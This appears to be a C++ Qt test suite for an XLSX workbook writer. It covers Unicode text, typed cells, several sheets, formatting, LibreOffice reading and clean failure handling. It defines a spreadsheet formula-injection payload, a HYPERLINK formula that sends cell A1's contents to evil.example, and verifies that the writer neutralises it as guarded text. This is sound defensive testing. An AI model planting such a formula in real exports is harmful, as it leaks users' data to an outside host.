// XlsxWorkbookWriter: workbooks written by libxlsxwriter (in vigil-xlsxwriter), read back by our own QuaZip reader
// (TableReader) and by LibreOffice; typed cells, several sheets, formatting, the formula guard, and failures that
// leave no file behind.
#include "exporter/cellguard.h"
#include "exporter/xlsxworkbookwriter.h"
#include "io/tablereader.h"
#include "libreoffice.h"
#include "testsupport.h"

#include <QDate>
#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <quazip.h>
#include <quazipfile.h>

using namespace vigil;
using vigil::test::Office;
using vigil::test::parseCsv;
using vigil::test::soffice;

namespace {

const QString kHostile = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click here\")");

// Names in the scripts suppliers use.
const QStringList kScripts{
    QStringLiteral("บริษัท สยามซีฟู้ด จำกัด"), // Thai
    QStringLiteral("မြတ်သီတာ အထည်ချုပ် ကုမ္ပဏီ"), // Burmese
    QStringLiteral("ঢাকা নিটওয়্যার লিমিটেড"), // Bengali
    QStringLiteral("广州明华服装有限公司"), // Chinese
    QStringLiteral("Công ty TNHH Thủy sản Phúc An"), // Vietnamese
};

struct Sheet
{
    QStringList header;
    QList<QStringList> rows;
};

// Every row of one sheet, as our reader sees it.
Sheet readSheet(const QString& path, const QString& sheet, QString* error = nullptr)
{
    ReaderOptions options;
    options.sheet = sheet;
    options.headerRow = 1;
    auto reader = TableReader::create(path, options);
    Sheet out;
    if (Status st = reader->open(); !st) {
        if (error)
            *error = st.error().toString();
        return out;
    }
    if (reader->sheetName() != sheet) {
        if (error)
            *error = QStringLiteral("opened sheet %1, not %2").arg(reader->sheetName(), sheet);
        return out;
    }
    QStringList row;
    bool first = true;
    while (reader->next(row)) {
        if (first)
            out.header = row;
        else
            out.rows << row;
        first = false;
    }
    if (reader->failed() && error)
        *error = reader->error().toString();
    return out;
}

QStringList sheetNames(const QString& path)
{
    auto reader = TableReader::create(path);
    if (!reader->open())
        return {};
    return reader->sheetNames();
}

QByteArray zipPart(const QString& path, const QString& part)
{
    QuaZip zip(path);
    if (!zip.open(QuaZip::mdUnzip) || !zip.setCurrentFile(part))
        return {};
    QuaZipFile f(&zip);
    if (!f.open(QIODevice::ReadOnly))
        return {};
    return f.readAll();
}

} // namespace

class TestXlsxWorkbookWriter : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void textRoundTrip_data();
    void textRoundTrip();
    void typedCells();
    void multiSheet();
    void hostileCellIsNeutralised();
    void headerFrozenBoldFilteredWidths();
    void libreOfficeReadsEverySheet();
    void failuresLeaveNoFile_data();
    void failuresLeaveNoFile();
    void missingHelperIsNamed();
    void abandonedWorkbookWritesNothing();
    void helperRefusesTruncatedInput();
    void helperRejectsBadInput_data();
    void helperRejectsBadInput();
    void protocolLine();

private:
    QString path(const QString& name) const { return m_dir.filePath(name); }
    QTemporaryDir m_dir;
};

void TestXlsxWorkbookWriter::initTestCase()
{
    QVERIFY(m_dir.isValid());
    auto helper = XlsxWorkbookWriter::helperProgram();
    QVERIFY2(helper.ok(), qPrintable(helper.error().message));
}

void TestXlsxWorkbookWriter::textRoundTrip_data()
{
    QTest::addColumn<QString>("text");
    QTest::addRow("plain") << "Siam Garment";
    QTest::addRow("XML specials") << "<a href=\"x\">&amp;</a> 'single'";
    QTest::addRow("control character") << QString("bell\u0007here");
    QTest::addRow("literal escape-like text") << "_x0041_ stays _x0041_, _x00 and _x_ too";
    QTest::addRow("line breaks") << "line 1\r\nline 2\nline 3\rline 4";
    QTest::addRow("tab inside") << "a\tb";
    for (const QString& s : kScripts)
        QTest::addRow("%s", qPrintable(s)) << s;
    QTest::addRow("emoji (surrogate pair)") << QString::fromUtf8("fish \xF0\x9F\x90\x9F");
    QTest::addRow("leading and trailing spaces") << "  padded  ";
    QTest::addRow("leading zeros stay text") << "00123";
    QTest::addRow("apostrophe first, no trigger") << "'quoted'";
    QTest::addRow("minus first (guarded)") << "-5 units";
    QTest::addRow("32,767 characters (a cell's limit)") << QString(32767, QChar(0x0E01));
}

void TestXlsxWorkbookWriter::textRoundTrip()
{
    QFETCH(QString, text);
    const QString file = path(QStringLiteral("text.xlsx"));
    {
        XlsxWorkbookWriter w;
        QVERIFY(w.open(file));
        QVERIFY(w.addSheet(QStringLiteral("S & P"), {QStringLiteral("text"), QStringLiteral("number")}));
        QVERIFY(w.addRow({text, 0.35}));
        const Status st = w.close();
        QVERIFY2(st.ok(), qPrintable(st.error().toString()));
    }
    QString error;
    const Sheet s = readSheet(file, QStringLiteral("S & P"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(s.header, QStringList({"text", "number"}));
    QCOMPARE(s.rows.size(), 1);
    // What the importer does: remove the guard apostrophe again.
    QCOMPARE(cellguard::unguard(s.rows.at(0).value(0)), text);
    QCOMPARE(s.rows.at(0).value(0), cellguard::guard(text));
    QCOMPARE(s.rows.at(0).value(1), QStringLiteral("0.35"));
}

void TestXlsxWorkbookWriter::typedCells()
{
    const QString file = path(QStringLiteral("typed.xlsx"));
    XlsxWorkbookWriter w;
    QVERIFY(w.open(file));
    QVERIFY(w.addSheet(QStringLiteral("Typed"), {"int", "double", "date", "datetime", "bool", "empty", "text"}));
    QVERIFY(w.addRow({42, 1234567.125, QDate(2026, 1, 10), QDateTime(QDate(2026, 1, 10), QTime(12, 30, 5)), true,
                      QVariant(), QStringLiteral("1200")}));
    QVERIFY(w.addRow({qlonglong(-7), 1e-9, QDate(1900, 3, 1), QDateTime(QDate(9999, 12, 31), QTime(23, 59, 59)), false,
                      QString(), QStringLiteral("2026-01-10")}));
    QVERIFY2(w.close().ok(), "close");
    const Sheet s = readSheet(file, QStringLiteral("Typed"));
    QCOMPARE(s.rows.size(), 2);
    QCOMPARE(s.rows.at(0), QStringList({"42", "1234567.125", "2026-01-10", "2026-01-10T12:30:05", "TRUE", "", "1200"}));
    QCOMPARE(s.rows.at(1),
             QStringList({"-7", "1e-09", "1900-03-01", "9999-12-31T23:59:59", "FALSE", "", "2026-01-10"}));
    // Numbers and dates are stored as numbers (with a date format), text "1200" as a string.
    const QByteArray xml = zipPart(file, QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY(xml.contains("<c r=\"A2\"><v>42</v></c>"));
    QVERIFY(xml.contains("<c r=\"G2\" t=\"inlineStr\"><is><t>1200</t></is></c>"));
    QVERIFY(xml.contains("<c r=\"E2\" t=\"b\"><v>1</v></c>"));
    QVERIFY(zipPart(file, QStringLiteral("xl/styles.xml")).contains("formatCode=\"yyyy-mm-dd\""));
}

void TestXlsxWorkbookWriter::multiSheet()
{
    const QString file = path(QStringLiteral("multi.xlsx"));
    XlsxWorkbookWriter w;
    QVERIFY(w.open(file));
    QVERIFY(w.addSheet(QStringLiteral("Suppliers"), {"name", "country"}));
    for (const QString& s : kScripts)
        QVERIFY(w.addRow({s, QStringLiteral("TH")}));
    QVERIFY(w.addSheet(QStringLiteral("Scores"), {"name", "score"}));
    QVERIFY(w.addRow({kScripts.first(), 71.5}));
    QVERIFY(w.addSheet(QStringLiteral("Empty"), {"only", "a", "header"}));
    QVERIFY(w.addSheet(QStringLiteral("About"), {}));
    QVERIFY(w.addRow({QStringLiteral("methodology_version"), QStringLiteral("1.0.0")}));
    QVERIFY2(w.close().ok(), "close");

    QCOMPARE(sheetNames(file), (QStringList{"Suppliers", "Scores", "Empty", "About"}));
    QString error;
    Sheet s = readSheet(file, QStringLiteral("Suppliers"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(s.rows.size(), kScripts.size());
    for (int i = 0; i < kScripts.size(); ++i)
        QCOMPARE(s.rows.at(i), QStringList({kScripts.at(i), QStringLiteral("TH")}));
    s = readSheet(file, QStringLiteral("Scores"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(s.rows, QList<QStringList>{QStringList({kScripts.first(), QStringLiteral("71.5")})});
    s = readSheet(file, QStringLiteral("Empty"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(s.header, QStringList({"only", "a", "header"}));
    QVERIFY(s.rows.isEmpty());
    s = readSheet(file, QStringLiteral("About"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(s.header, QStringList({"methodology_version", "1.0.0"}));
}

void TestXlsxWorkbookWriter::hostileCellIsNeutralised()
{
    const QString file = path(QStringLiteral("hostile.xlsx"));
    XlsxWorkbookWriter w;
    QVERIFY(w.open(file));
    QVERIFY(w.addSheet(QStringLiteral("Data"), {"name", "@SUM(1+1)"}));
    QVERIFY(w.addRow({kHostile, QStringLiteral("+1")}));
    QVERIFY2(w.close().ok(), "close");
    const Sheet s = readSheet(file, QStringLiteral("Data"));
    QCOMPARE(s.header.value(1), QStringLiteral("'@SUM(1+1)"));
    QCOMPARE(s.rows.value(0).value(0), QLatin1Char('\'') + kHostile);
    QCOMPARE(s.rows.value(0).value(1), QStringLiteral("'+1"));
    // A text cell, never a formula.
    const QByteArray xml = zipPart(file, QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY(!xml.contains("<f>"));
    QVERIFY(xml.contains("<t>'=HYPERLINK("));
}

void TestXlsxWorkbookWriter::headerFrozenBoldFilteredWidths()
{
    const QString file = path(QStringLiteral("format.xlsx"));
    XlsxWorkbookWriter w;
    QVERIFY(w.open(file));
    QVERIFY(w.addSheet(QStringLiteral("Data"), {"id", "a rather long header name", "name"}));
    QVERIFY(w.addRow({1, QStringLiteral("x"), QString(200, QLatin1Char('w'))}));
    QVERIFY(w.addRow({2, QStringLiteral("y"), kScripts.at(3)}));
    QVERIFY2(w.close().ok(), "close");
    const QByteArray xml = zipPart(file, QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(xml.contains("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"),
             xml.constData());
    QVERIFY(xml.contains("<autoFilter ref=\"A1:C3\"/>"));
    // Column widths: the short id column stays narrow, the header sets B, the 200-character text is capped at 60.
    QVERIFY(xml.contains("<col min=\"1\" max=\"1\" width=\"6.7109375\" customWidth=\"1\"/>"));
    QVERIFY(xml.contains("<col min=\"2\" max=\"2\" width=\"28.7109375\" customWidth=\"1\"/>"));
    QVERIFY(xml.contains("<col min=\"3\" max=\"3\" width=\"60.7109375\" customWidth=\"1\"/>"));
    // The header cells use the bold style.
    QVERIFY(xml.contains("<c r=\"A1\" s=\"1\" t=\"inlineStr\">"));
    const QByteArray styles = zipPart(file, QStringLiteral("xl/styles.xml"));
    QVERIFY(styles.contains("<b/>"));
}

void TestXlsxWorkbookWriter::libreOfficeReadsEverySheet()
{
    const QString office = soffice(Office::Calc);
    if (office.isEmpty())
        QSKIP("LibreOffice Calc is not installed: apt-get install libreoffice-calc-nogui");
    const QString file = path(QStringLiteral("lo.xlsx"));
    {
        XlsxWorkbookWriter w;
        QVERIFY(w.open(file));
        QVERIFY(w.addSheet(QStringLiteral("Suppliers"), {"name", "workers", "audited"}));
        for (const QString& s : kScripts)
            QVERIFY(w.addRow({s, 1200, QDate(2026, 1, 10)}));
        QVERIFY(w.addRow({kHostile, 0.35, QDate(1999, 12, 31)}));
        QVERIFY(w.addRow({QStringLiteral("_x0041_ literal"), QVariant(), QVariant()}));
        QVERIFY(w.addSheet(QStringLiteral("About"), {"item", "value"}));
        QVERIFY(w.addRow({QStringLiteral("methodology_version"), QStringLiteral("1.0.0")}));
        QVERIFY2(w.close().ok(), "close");
    }
    const QString outDir = path(QStringLiteral("lo-out"));
    QVERIFY(QDir().mkpath(outDir));
    // Token 12 = -1: every sheet, each to <name>-<sheet>.csv.
    auto conv = vigil::test::runProgram(
        office,
        {QStringLiteral("-env:UserInstallation=file://") + path(QStringLiteral("lo-profile")),
         QStringLiteral("--headless"), QStringLiteral("--convert-to"),
         QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"),
         QStringLiteral("--outdir"), outDir, file},
        240000);
    QVERIFY2(conv.exitCode == 0, conv.err.constData());
    QFile suppliers(outDir + QStringLiteral("/lo-Suppliers.csv"));
    QVERIFY2(suppliers.open(QIODevice::ReadOnly), conv.out.constData());
    const QList<QStringList> rows = parseCsv(suppliers.readAll());
    QCOMPARE(rows.size(), 1 + kScripts.size() + 2);
    QCOMPARE(rows.at(0), QStringList({"name", "workers", "audited"}));
    for (int i = 0; i < kScripts.size(); ++i)
        QCOMPARE(rows.at(1 + i), QStringList({kScripts.at(i), "1200", "2026-01-10"}));
    // The hostile cell is text with its guard, not the result of a formula.
    QCOMPARE(rows.at(1 + kScripts.size()), QStringList({QLatin1Char('\'') + kHostile, "0.35", "1999-12-31"}));
    QCOMPARE(rows.at(2 + kScripts.size()).value(0), QStringLiteral("_x0041_ literal"));
    QFile about(outDir + QStringLiteral("/lo-About.csv"));
    QVERIFY(about.open(QIODevice::ReadOnly));
    QCOMPARE(parseCsv(about.readAll()).value(1), QStringList({"methodology_version", "1.0.0"}));
}

void TestXlsxWorkbookWriter::failuresLeaveNoFile_data()
{
    QTest::addColumn<QString>("sheet");
    QTest::addColumn<QVariantList>("row");
    QTest::addColumn<QString>("message");
    QTest::addRow("sheet name with a slash") << "a/b" << QVariantList{1} << "sheet name";
    QTest::addRow("sheet name over 31 characters") << QString(32, QLatin1Char('s')) << QVariantList{1} << "sheet name";
    QTest::addRow("text over 32,767 characters") << "S" << QVariantList{QString(32768, QLatin1Char('x'))} << "32,767";
    QTest::addRow("unpaired surrogate") << "S" << QVariantList{QString(QChar(0xD800)) + QStringLiteral("x")}
                                        << "surrogate";
    QTest::addRow("date before 1900") << "S" << QVariantList{QDate(1899, 12, 31)} << "1900";
    QTest::addRow("not a finite number") << "S" << QVariantList{qInf()} << "finite";
}

void TestXlsxWorkbookWriter::failuresLeaveNoFile()
{
    QFETCH(QString, sheet);
    QFETCH(QVariantList, row);
    QFETCH(QString, message);
    const QString file = path(QStringLiteral("failure.xlsx"));
    // An older file at the path stays as it was.
    {
        QFile old(file);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("previous export");
    }
    XlsxWorkbookWriter w;
    QVERIFY(w.open(file));
    Status st = w.addSheet(sheet, {QStringLiteral("h")});
    // Many rows after the failure: the writer must notice the helper stopped, not hang or crash.
    for (int i = 0; st.ok() && i < 20000; ++i)
        st = w.addRow(i == 0 ? row : QVariantList{QStringLiteral("filler row %1").arg(i)});
    if (st.ok())
        st = w.close();
    QVERIFY(!st.ok());
    QVERIFY2(st.error().toString().contains(message), qPrintable(st.error().toString()));
    QFile old(file);
    QVERIFY(old.open(QIODevice::ReadOnly));
    QCOMPARE(old.readAll(), QByteArray("previous export"));
    QCOMPARE(QDir(m_dir.path()).entryList({QStringLiteral("failure.xlsx*")}, QDir::Files),
             QStringList{QStringLiteral("failure.xlsx")});
}

void TestXlsxWorkbookWriter::missingHelperIsNamed()
{
    const QByteArray saved = qgetenv(XlsxWorkbookWriter::kHelperEnv);
    const QString file = path(QStringLiteral("nohelper.xlsx"));
    qputenv(XlsxWorkbookWriter::kHelperEnv, path(QStringLiteral("no/such/vigil-xlsxwriter")).toLocal8Bit());
    {
        XlsxWorkbookWriter w;
        const Status st = w.open(file);
        QVERIFY(!st.ok());
        QVERIFY2(st.error().message.contains(QStringLiteral("VIGIL_XLSXWRITER")), qPrintable(st.error().message));
    }
    // Without the variable: looked for beside this test program, where it is not.
    qunsetenv(XlsxWorkbookWriter::kHelperEnv);
    {
        XlsxWorkbookWriter w;
        const Status st = w.open(file);
        QVERIFY(!st.ok());
        QVERIFY2(st.error().message.contains(QStringLiteral("vigil-xlsxwriter) was not found")),
                 qPrintable(st.error().message));
        QVERIFY(st.error().message.contains(QCoreApplication::applicationDirPath()));
    }
    qputenv(XlsxWorkbookWriter::kHelperEnv, saved);
    QVERIFY(!QFile::exists(file));
    // A folder that does not exist is named at open(), before any row is written.
    XlsxWorkbookWriter w;
    const Status st = w.open(path(QStringLiteral("no-such-folder/out.xlsx")));
    QVERIFY(!st.ok());
    QVERIFY2(st.error().message.contains(QStringLiteral("does not exist")), qPrintable(st.error().message));
}

void TestXlsxWorkbookWriter::abandonedWorkbookWritesNothing()
{
    const QString file = path(QStringLiteral("abandoned.xlsx"));
    {
        XlsxWorkbookWriter w;
        QVERIFY(w.open(file));
        QVERIFY(w.addSheet(QStringLiteral("S"), {QStringLiteral("h")}));
        for (int i = 0; i < 1000; ++i)
            QVERIFY(w.addRow({i}));
    } // no close(): a cancelled export
    QVERIFY(!QFile::exists(file));
}

void TestXlsxWorkbookWriter::helperRefusesTruncatedInput()
{
    const QString program = XlsxWorkbookWriter::helperProgram().value();
    const QString file = path(QStringLiteral("truncated.xlsx"));
    QProcess p;
    p.start(program, {QStringLiteral("--out"), file});
    QVERIFY(p.waitForStarted());
    p.write("{\"vigil-xlsx\":1}\n{\"sheet\":\"S\",\"header\":[\"h\"]}\n[1]\n");
    p.closeWriteChannel(); // no end record: the writer of the input died
    QVERIFY(p.waitForFinished());
    QCOMPARE(p.exitCode(), 3);
    QVERIFY(p.readAllStandardError().contains("nothing was written"));
    QVERIFY(!QFile::exists(file));
}

void TestXlsxWorkbookWriter::helperRejectsBadInput_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QByteArray>("message");
    const QByteArray start = "{\"vigil-xlsx\":1}\n{\"sheet\":\"S\",\"header\":[\"h\"]}\n";
    QTest::addRow("no handshake") << QByteArray("[1]\n") << QByteArray("line 1: the first line must be");
    QTest::addRow("impossible date") << start + "[1,{\"date\":\"2026-13-45\"}]\n"
                                     << QByteArray(
                                            "line 3: sheet \"S\", row 2, column 2: \"2026-13-45\" is not a date");
    QTest::addRow("unknown object cell") << start + "[{\"x\":1}]\n" << QByteArray("an object cell is");
    QTest::addRow("nested array cell") << start + "[[1]]\n" << QByteArray("a cell is a string");
    QTest::addRow("number out of range") << start + "[1e400]\n" << QByteArray("not a JSON array");
    QTest::addRow("broken JSON") << start + "[\"a\",\n" << QByteArray("not a JSON array");
    QTest::addRow("sheet without name") << start + "{\"sheet\":\"\"}\n" << QByteArray("a sheet needs a name");
    QTest::addRow("same sheet twice") << start + "{\"sheet\":\"S\"}\n" << QByteArray("cannot be used");
    QTest::addRow("row before any sheet")
        << QByteArray("{\"vigil-xlsx\":1}\n[1]\n") << QByteArray("a row before any sheet");
    QTest::addRow("no sheet at all") << QByteArray("{\"vigil-xlsx\":1}\n") << QByteArray("the workbook has no sheet");
}

void TestXlsxWorkbookWriter::helperRejectsBadInput()
{
    QFETCH(QByteArray, input);
    QFETCH(QByteArray, message);
    const QString file = path(QStringLiteral("bad.xlsx"));
    QProcess bad;
    bad.start(XlsxWorkbookWriter::helperProgram().value(), {QStringLiteral("--out"), file});
    QVERIFY(bad.waitForStarted());
    bad.write(input + "{\"end\":true}\n");
    bad.closeWriteChannel();
    QVERIFY(bad.waitForFinished());
    QCOMPARE(bad.exitStatus(), QProcess::NormalExit);
    QCOMPARE(bad.exitCode(), 2);
    const QByteArray err = bad.readAllStandardError();
    QVERIFY2(err.contains(message), err.constData());
    QVERIFY(!QFile::exists(file));
}

void TestXlsxWorkbookWriter::protocolLine()
{
    auto line = XlsxWorkbookWriter::encodeRow(
        {QStringLiteral("a\"b\\c\nd"), 3, 0.5, QVariant(), true, QDate(2026, 2, 3), QStringLiteral("=1+1")});
    QVERIFY(line.ok());
    QCOMPARE(line.value(),
             QByteArray("[\"a\\\"b\\\\c\\u000ad\",3,0.5,null,true,{\"date\":\"2026-02-03\"},\"'=1+1\"]\n"));
}

QTEST_GUILESS_MAIN(TestXlsxWorkbookWriter)
#include "tst_xlsxworkbookwriter.moc"
